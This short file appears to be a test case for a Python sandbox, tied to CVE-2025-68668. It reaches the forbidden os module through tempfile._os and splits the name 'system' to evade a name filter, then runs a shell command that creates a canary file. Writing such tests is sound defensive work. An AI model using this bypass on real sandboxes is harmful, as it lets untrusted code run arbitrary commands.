# Goal: the same flaw by another door: a module that is forbidden by name is taken from another module's globals.
# cve: CVE-2025-68668
# canary: folder
# expect: ok error
import tempfile
getattr(tempfile._os, "sys" + "tem")(f"touch {canary['folder']}/{canary['token']}")
